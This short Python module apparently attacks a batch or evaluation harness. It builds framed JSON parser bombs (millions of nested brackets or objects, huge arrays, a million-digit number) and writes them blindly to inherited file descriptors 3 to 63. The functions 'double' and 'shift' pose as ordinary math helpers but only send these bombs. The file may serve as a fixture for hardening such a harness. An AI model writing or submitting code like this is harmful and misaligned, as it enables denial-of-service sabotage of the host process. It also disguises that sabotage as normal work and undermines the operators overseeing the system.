"""Stops the batch: headers nested so deep, or of so many parts, that reading them takes a stack or memory."""

import os
import struct


def frame(header, body=b"", length=None):
    return struct.pack("<IQ", len(header), len(body) if length is None else length) + header + body


def send(content):
    for number in range(3, 64):
        try:
            os.write(number, content)
        except OSError:
            pass


BOMBS = [b"[" * 4_000_000, b'{"a":' * 1_000_000, b'{"value":' + b"[" * 40 + b"]" * 40, b'{"value":1,"arrays":[' + b'["bool",[0]],' * 300_000 + b'["bool",[0]]]}']
MORE = [b'{"value":[' + b"[]," * 2_000_000 + b'[]],"arrays":[]}', b'{"value":' + b"9" * 1_000_000 + b',"arrays":[]}']
count = iter(range(100))


def double(x):
    send(frame((BOMBS + MORE)[next(count) % 2]))


def shift(x, by=1.0):
    send(frame((BOMBS + MORE)[2 + next(count) % 4]))
